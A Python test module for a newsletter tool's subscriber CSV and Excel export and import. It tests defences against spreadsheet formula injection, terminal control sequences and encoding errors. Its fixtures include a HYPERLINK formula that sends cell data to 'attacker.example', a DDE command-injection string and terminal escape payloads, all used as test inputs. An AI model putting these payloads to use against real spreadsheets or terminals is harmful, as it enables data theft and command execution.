"""Subscriber spreadsheets: nothing exported can be evaluated, nothing shown can steer the
terminal, and no line of an import is lost without a word. Property tests run a fixed budget;
HYPOTHESIS_PROFILE=full runs many more examples."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import os
import tempfile
import unicodedata
from pathlib import Path
from unittest import mock

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from newsletter.keys import email_key, normalise_email
from newsletter.audience import sheets, spreadsheet
from newsletter.audience.spreadsheet import (
    neutralised,
    one_subscriber,
    parse_csv,
    read_csv,
    restored,
    write_csv,
    write_excel,
)
from newsletter.domain import Subscriber
from newsletter.errors import BadInput
from newsletter.errors import CONTROLS, terminal_safe

# No example database: a test run leaves nothing behind in the tree.
settings.register_profile("spreadsheets-fast", max_examples=200, deadline=None, database=None)
settings.register_profile("spreadsheets-full", max_examples=5000, deadline=None, database=None)
PROFILE = settings.get_profile(
    "spreadsheets-full" if os.environ.get("HYPOTHESIS_PROFILE") == "full" else "spreadsheets-fast"
)

LANGUAGES = ("ar", "en")
HEADER = "email,name,language"
# What a spreadsheet may take for the start of a formula, typed or after leading whitespace.
TRIGGERS = set("=+-@\t\r＝＋－＠﹦﹢﹣﹫")
BIDI_CONTROLS = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}
TRICKY = "=+-@＝＋－＠\t\r\n\x00\x1b\x07\x7f\x9b\"',; \u3000\u200b\u200f\u202e\u2066\u2028نور"

tricky_text = st.text(st.one_of(st.sampled_from(TRICKY), st.characters()), max_size=40)
local_parts = st.text(st.sampled_from("abcxyz019=+-'_.|!"), min_size=1, max_size=12)


def valid_address(address: str) -> bool:
    try:
        return normalise_email(address) == address
    except ValueError:
        return False


addresses = st.builds("{}@{}".format, local_parts, st.sampled_from(["example.org", "example.net"])).filter(
    valid_address
)


def person(i: int, email: str, name: str, language: str = "ar") -> Subscriber:
    return Subscriber(i, email, name, language, "active", f"key{i}", dt.datetime(2024, 1, 1))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def evaluable(cell: str) -> bool:
    return cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS


def stored_name(name: str) -> bool:
    """A name as import or `add` would store it (import refuses one that looks garbled, and a lone
    surrogate, which no encoding writes)."""
    fits = name == " ".join(name.split()) and len(name) <= 200 and not CONTROLS.search(name)
    return fits and not sheets.misread_as(name) and not sheets.unreadable(name)


# -- export ------------------------------------------------------------------------------


@PROFILE
@given(st.lists(st.tuples(addresses, tricky_text), max_size=8))
def test_no_exported_cell_can_be_read_as_a_formula(people):
    subscribers = [person(i, email, name) for i, (email, name) in enumerate(people)]
    rows = cells(write_csv(subscribers))
    assert rows[0][:4] == ["email", "name", "language", "status"] and len(rows) == len(people) + 1
    for row, sub in zip(rows[1:], subscribers, strict=True):
        for cell, original in zip(row[:4], (sub.email, sub.name, sub.language, sub.status), strict=True):
            assert not evaluable(cell), (cell, original)
            assert cell in (original, "'" + original)
            if original[:1].isalnum():
                assert cell == original  # every other cell byte-identical


@PROFILE
@given(
    st.lists(
        st.tuples(addresses, tricky_text.map(lambda n: " ".join(n.split()))),
        max_size=8,
        unique_by=lambda p: email_key(p[0]),
    )
)
def test_export_then_import_gives_back_every_person_unchanged(people):
    people = [(email, name) for email, name in people if stored_name(name)]
    subscribers = [person(i, email, name, LANGUAGES[i % 2]) for i, (email, name) in enumerate(people)]
    exported = cells(write_csv(subscribers))
    out = io.StringIO()
    csv.writer(out).writerows(row[:3] for row in exported)  # import takes no status column
    good, bad = parse_csv(out.getvalue(), LANGUAGES)
    assert bad == []
    assert [(g.email, g.name, g.language) for g in good] == [(s.email, s.name, s.language) for s in subscribers]


@PROFILE
@given(tricky_text)
def test_restored_undoes_neutralised_exactly(cell):
    assert restored(neutralised(cell)) == cell
    assert not evaluable(neutralised(cell))


@pytest.mark.parametrize("start", sorted(TRIGGERS) + [" =", "\u3000=", "\u200b=", "'="])
def test_names_beginning_with_a_formula_character_are_exported_inert(start):
    name = start + 'HYPERLINK("https://attacker.example/?x="&A1,"Click")'
    text = write_csv([person(1, "=cmd|'/Ccalc'!A0@example.org", name), person(2, "nour@example.org", "نور حداد")])
    rows = cells(text)
    assert rows[1][:2] == ["'=cmd|'/Ccalc'!A0@example.org", "'" + name]
    assert all(not evaluable(cell) for row in rows for cell in row)
    assert text.split("\n")[2] == "nour@example.org,نور حداد,ar,active,,,"


def test_cells_that_only_look_odd_are_left_alone():
    names = ["O'Brien", "Jean-Luc", "a@b", "1+1", "'quoted'", "Doe, Jane", "-"]
    rows = cells(write_csv([person(i, f"p{i}@example.org", n) for i, n in enumerate(names)]))
    assert [row[1] for row in rows[1:]] == ["O'Brien", "Jean-Luc", "a@b", "1+1", "'quoted'", "Doe, Jane", "'-"]


def test_the_excel_export_is_utf16_with_tabs_and_reads_back_as_it_was(tmp_path):
    people = [person(1, "nour@example.org", "نور حداد"), person(2, "=cmd@example.org", "-1+1", "en"),
              person(3, "jane@example.org", 'Doe, "Jane"', "en")]  # fmt: skip
    data = write_excel(people)
    assert data.startswith(codecs.BOM_UTF16_LE)
    text = data[2:].decode("utf-16-le")
    lines = text.split("\r\n")
    assert lines[0] == "email\tname\tlanguage\tstatus\tconsent_at\tconsent_version\tconsent_source"
    assert lines[1] == "nour@example.org\tنور حداد\tar\tactive\t\t\t" and lines[-1] == ""
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="\t"))
    assert all(not evaluable(cell) for row in rows for cell in row)
    path = tmp_path / "export.csv"
    path.write_bytes(data)
    sheet = read_csv(path, LANGUAGES)
    assert sheet.describe().startswith("UTF-16, tab-separated") and sheet.bad == []
    assert [(g.email, g.name, g.language) for g in sheet.good] == [(p.email, p.name, p.language) for p in people]


@PROFILE
@given(
    st.lists(
        st.tuples(addresses, tricky_text.map(lambda n: " ".join(n.split()))),
        max_size=6,
        unique_by=lambda p: email_key(p[0]),
    )
)
def test_excel_export_then_import_gives_back_every_person_unchanged(people):
    people = [(email, name) for email, name in people if stored_name(name)]
    subscribers = [person(i, email, name, LANGUAGES[i % 2]) for i, (email, name) in enumerate(people)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "export.csv"
        path.write_bytes(write_excel(subscribers))
        sheet = read_csv(path, LANGUAGES)
    assert sheet.bad == []
    assert [(g.email, g.name, g.language) for g in sheet.good] == [(s.email, s.name, s.language) for s in subscribers]


# -- terminal ----------------------------------------------------------------------------


def test_terminal_safe_escapes_controls_and_keeps_arabic():
    assert terminal_safe("\x1b]0;owned\x07") == "\\x1b]0;owned\\x07"
    assert terminal_safe("abc\u202edef") == "abc\\u202edef"
    assert terminal_safe("\x9b31m\x7f\x00\t\n\u2066\u2069\u2028") == "\\x9b31m\\x7f\\x00\\x09\\x0a\\u2066\\u2069\\u2028"
    arabic = "نور حداد\u200c\u200f (Nour) أمينة"
    assert terminal_safe(arabic) == arabic


@PROFILE
@given(tricky_text)
def test_terminal_safe_escapes_each_control_and_changes_nothing_else(text):
    def expected(c: str) -> str:
        if not CONTROLS.match(c):
            return c
        return f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}"

    shown = terminal_safe(text)
    assert shown == "".join(map(expected, text))
    assert not any(unicodedata.category(c) == "Cc" or unicodedata.bidirectional(c) in BIDI_CONTROLS for c in shown)


# -- import ------------------------------------------------------------------------------


def test_an_unterminated_quote_is_a_bad_row_and_the_next_rows_are_still_imported():
    text = f'{HEADER}\na@example.org,"Amina,ar\nb@example.org,Bob,en\nc@example.org,"Carl",en\n'
    good, bad = parse_csv(text, LANGUAGES)
    assert [(p.line, p.message) for p in bad] == [(2, "the quote opened in the name column is not closed on this line")]
    assert [(g.line, g.email, g.name) for g in good] == [(3, "b@example.org", "Bob"), (4, "c@example.org", "Carl")]


def test_a_quote_left_open_on_the_last_line_is_a_bad_row():
    good, bad = parse_csv(f'{HEADER}\na@example.org,A,en\n"b@example.org,B,en', LANGUAGES)
    assert [g.line for g in good] == [2]
    assert [(p.line, p.message) for p in bad] == [
        (3, "the quote opened in the email column is not closed on this line")
    ]


def test_a_quote_left_open_in_the_header_makes_the_file_unusable():
    with pytest.raises(BadInput) as caught:
        parse_csv('email,"name,language\na@example.org,A,en\n', LANGUAGES, "x.csv")
    assert str(caught.value) == "x.csv:1: not CSV: a quote in the header is not closed on its line"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("a@example.org,Ca\x00rl,en", "control character U+0000 in the name column"),
        ("a@example.org,\x1b]0;owned\x07,en", "control character U+001B in the name column"),
        ("a@example.org,\u202eevil,en", "control character U+202E RIGHT-TO-LEFT OVERRIDE in the name column"),
        ("a@example\x00.org,A,en", "control character U+0000 in the email column"),
        ("a@example.org,A,e\x85n", "control character U+0085 in the language column"),
        ("\x1c", "control character U+001C in the email column"),
    ],
)
def test_control_characters_are_refused_naming_line_and_column(row, message):
    good, bad = parse_csv(f"{HEADER}\nb@example.org,B,ar\n{row}\n", LANGUAGES)
    assert [g.line for g in good] == [2]
    assert [(p.line, p.message) for p in bad] == [(3, message)]


def test_a_tab_in_a_name_is_whitespace_and_an_empty_header_column_is_named_by_number():
    good, bad = parse_csv("email,name,,language\na@example.org,Nour\tHaddad,x,ar\nb@example.org,B,\x07,en\n", LANGUAGES)
    assert [(g.email, g.name) for g in good] == [("a@example.org", "Nour Haddad")]
    assert [(p.line, p.message) for p in bad] == [(3, "control character U+0007 in the column 3 column")]


def test_add_refuses_a_control_character_in_the_name():
    with pytest.raises(BadInput, match=r"--name: control character U\+001B"):
        one_subscriber("a@example.org", "\x1b[2J", None, LANGUAGES)
    assert one_subscriber("a@example.org", " نور \t حداد ", None, LANGUAGES).name == "نور حداد"


def test_a_row_not_in_the_files_encoding_is_a_bad_row_and_the_others_come_in(tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(b"\xef\xbb\xbfemail,name\r\na@example.org,A\rb@example.org,\xe9\nc@example.org,C\n")
    sheet = read_csv(path, LANGUAGES)
    assert [g.email for g in sheet.good] == ["a@example.org", "c@example.org"]
    assert [(p.line, p.message) for p in sheet.bad] == [(3, (
        "not UTF-8 text, unlike the rest of the file (this row was saved in another encoding): "
        "save the whole sheet again as CSV UTF-8"
    ))]  # fmt: skip
    assert sheet.describe().startswith("UTF-8 (with BOM), comma-separated")


def test_a_header_not_in_the_files_encoding_makes_it_unusable(tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(b"\xef\xbb\xbfemail,n\xe9m\na@example.org,A\n")
    with pytest.raises(BadInput) as caught:
        read_csv(path, LANGUAGES)
    assert str(caught.value) == f"{path}:1: the header is not UTF-8 text: save the file as CSV UTF-8"


@pytest.mark.parametrize(
    ("start", "says"),
    [(b"PK\x03\x04\x14\x00\x06\x00", "an Excel workbook, not CSV"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an Excel workbook")],
)
def test_a_workbook_is_refused_as_a_file(tmp_path, start, says):
    path = tmp_path / "people.csv"
    path.write_bytes(start + bytes(range(256)) * 8)
    with pytest.raises(BadInput, match=says):
        read_csv(path, LANGUAGES)


# -- encodings ------------------------------------------------------------------------------

ARABIC_LETTERS = "".join(chr(c) for c in range(0x0621, 0x064B))
arabic_names = st.text(st.sampled_from(ARABIC_LETTERS + " "), min_size=2, max_size=30).filter(lambda n: n.strip())


@PROFILE
@given(arabic_names)
def test_arabic_read_through_windows_1256_is_named_garbled_and_arabic_itself_never_is(name):
    garbled = name.encode("utf-8").decode("cp1256")
    assert sheets.misread_as(garbled) == "Windows-1256"
    assert sheets.misread_as(name) is None


def test_garbled_latin_and_plain_text():
    assert sheets.misread_as("Ã‰lodie CafÃ©") == "Windows-1252"
    assert sheets.misread_as("Élodie Café, O'Brien, Müller, ﺍﻟﻌﺮﺑﻴﺔ, 中文") is None


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark_is_recognised_by_its_nuls(tmp_path, codec):
    path = tmp_path / "s.txt"
    path.write_bytes("البريد الإلكتروني\tالاسم\r\nnour@example.org\tنور\r\n".encode(codec))
    sheet = read_csv(path, LANGUAGES)
    assert [(g.email, g.name) for g in sheet.good] == [("nour@example.org", "نور")] and sheet.bad == []
    ending = "little" if codec.endswith("le") else "big"
    assert sheet.describe().startswith(f"UTF-16 ({ending}-endian, no BOM), tab-separated")


def test_a_utf16_file_cut_in_the_middle_of_a_character_loses_only_its_last_row(tmp_path):
    path = tmp_path / "s.txt"
    path.write_bytes("email\r\na@example.org\r\nb@example.org".encode("utf-16-le")[:-1])
    sheet = read_csv(path, LANGUAGES)
    assert [g.email for g in sheet.good] == ["a@example.org"]
    assert [p.line for p in sheet.bad] == [3] and "not UTF-16 text" in sheet.bad[0].message


def test_a_mostly_windows_1256_file_is_read_so_and_its_utf8_row_is_named(tmp_path):
    rows = [f"p{i}@example.org,مشارك {i}\r\n".encode("cp1256") for i in range(5)]
    rows.insert(2, "x@example.org,نور\r\n".encode())
    path = tmp_path / "s.csv"
    path.write_bytes(b"email,name\r\n" + b"".join(rows))
    sheet = read_csv(path, LANGUAGES)
    assert sheet.describe().startswith("Windows-1256")
    assert [g.name for g in sheet.good] == [f"مشارك {i}" for i in range(5)]
    assert [p.line for p in sheet.bad] == [4] and sheet.bad[0].message.startswith("garbled text: UTF-8 once opened as Windows-1256")


utf_encodings = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
line_texts = st.lists(st.text(st.sampled_from("ab,;\"نور é\r\n\t"), max_size=12), min_size=1, max_size=12)


@PROFILE
@given(utf_encodings, line_texts, st.integers(1, 9))
def test_lines_read_a_block_at_a_time_are_the_lines_of_the_whole_text(codec, parts, chunk):
    text = "email,name,language\n" + "".join(parts)
    with tempfile.TemporaryDirectory() as folder, mock.patch.object(sheets, "CHUNK", chunk):
        path = Path(folder) / "lines.csv"
        path.write_bytes(text.encode(codec))
        encoding = sheets.sniff(path)
        assert list(sheets.text_lines(path, encoding)) == io.StringIO(text, newline="").readlines()


def test_repeated_addresses_are_found_across_batches(monkeypatch):
    monkeypatch.setattr(spreadsheet, "BATCH", 2)
    lines = ["a@example.org", "b@example.org", "A@example.org", "c@example.org", "a@example.org", "b@example.org", "c@example.org"]
    good, bad = parse_csv("email\n" + "\n".join(lines) + "\n", LANGUAGES)
    assert [g.line for g in good] == [2, 3, 5]
    assert [(p.line, p.message) for p in bad] == [
        (4, "'A@example.org' already on line 2"), (6, "'a@example.org' already on line 2"),
        (7, "'b@example.org' already on line 3"), (8, "'c@example.org' already on line 5"),
    ]  # fmt: skip


def test_the_sample_file_keeps_its_deliberate_bad_rows():
    sheet = read_csv(ROOT / "data" / "sample-subscribers.csv", LANGUAGES)
    assert [p.line for p in sheet.bad] == [16, 17, 18, 19, 21] and len(sheet.good) == 17


well_formed = st.builds(
    lambda name, lang: (name, lang),
    tricky_text.map(lambda n: " ".join(n.split())).filter(stored_name),
    st.sampled_from(LANGUAGES),
)
odd_line = st.one_of(
    st.text(st.characters(blacklist_characters="\r\n"), max_size=30),
    st.text(st.sampled_from(TRICKY.replace("\r", "").replace("\n", "") + "a@.org"), max_size=30),
    st.builds(
        '{}@example.org,"{}'.format, local_parts, st.text(st.characters(blacklist_characters='\r\n"'), max_size=10)
    ),
)


@PROFILE
@given(st.lists(st.one_of(well_formed, odd_line), max_size=12), st.sampled_from(["\n", "\r\n", "\r"]))
def test_every_line_is_a_good_row_a_bad_row_a_blank_line_or_the_header(lines, newline):
    text_lines, expected = [], {}
    for number, line in enumerate(lines, start=2):
        if isinstance(line, tuple):  # a well-formed row: whatever comes before it, it is imported
            name, language = line
            email = f"row{number}@well-formed.example.org"
            expected[number] = (email, name, language)
            out = io.StringIO()
            csv.writer(out, lineterminator="").writerow([email, neutralised(name), language])
            line = out.getvalue()
        text_lines.append(line)
    good, bad = parse_csv(newline.join([HEADER, *text_lines]), LANGUAGES)
    reported = [g.line for g in good] + [p.line for p in bad]
    assert len(reported) == len(set(reported)) and set(reported) <= set(range(2, len(lines) + 2))
    for number, line in enumerate(text_lines, start=2):
        if number not in reported:
            assert all(c.isspace() or c in ',"' for c in line), (number, line)
    assert {g.line: (g.email, g.name, g.language) for g in good if g.line in expected} == expected


# -- through the command line ------------------------------------------------------------


def test_subscribers_export_of_imported_formula_names_has_no_formula_cell(project):
    from click.testing import CliRunner

    from newsletter.cli import cli

    def run(*args: str):
        return CliRunner().invoke(cli, [*args, "--config", str(project.config_path)], env=project.env)

    starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
    rows = [f'p{i}@example.org,"{s}HYPERLINK(""https://attacker.example"",""x"")",en' for i, s in enumerate(starts)]
    source = project.root / "people.csv"
    source.write_text("\n".join([HEADER, *rows, "=cmd|'/Ccalc'!A0@example.org,Nour,ar"]) + "\n", encoding="utf-8")
    assert run("subscribers", "import", str(source)).exit_code == 0
    out = project.root / "export.csv"
    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
    exported = cells(out.read_text(encoding="utf-8"))
    assert len(exported) == len(starts) + 2
    assert all(not evaluable(cell) for row in exported for cell in row)
    assert sorted(row[1][:2] for row in exported[1:]) == sorted(["No", *("'" + s for s in starts)])


def test_export_for_excel_through_the_command_and_back(project):
    from click.testing import CliRunner

    from newsletter.cli import cli

    def run(*args: str):
        return CliRunner().invoke(cli, [*args, "--config", str(project.config_path)], env=project.env)

    assert run("subscribers", "import", str(project.write_subscribers(3))).exit_code == 0
    plain, excel = project.root / "plain.csv", project.root / "excel.csv"
    assert run("subscribers", "export", "--out", str(plain)).exit_code == 0
    assert run("subscribers", "export", "--excel", "--out", str(excel)).exit_code == 0
    assert plain.read_bytes().startswith(b"email,name,language,status,")  # plain export: UTF-8, no BOM, as before
    data = excel.read_bytes()
    assert data.startswith(codecs.BOM_UTF16_LE + "email\tname\tlanguage\tstatus\t".encode("utf-16-le"))
    assert data[2:].decode("utf-16-le").replace("\t", ",").replace("\r\n", "\n") == plain.read_text(encoding="utf-8")
    again = run("subscribers", "import", str(excel))
    assert again.exit_code == 0 and "read excel.csv as UTF-16, tab-separated" in again.output
    assert "0 added, 3 updated" in again.output
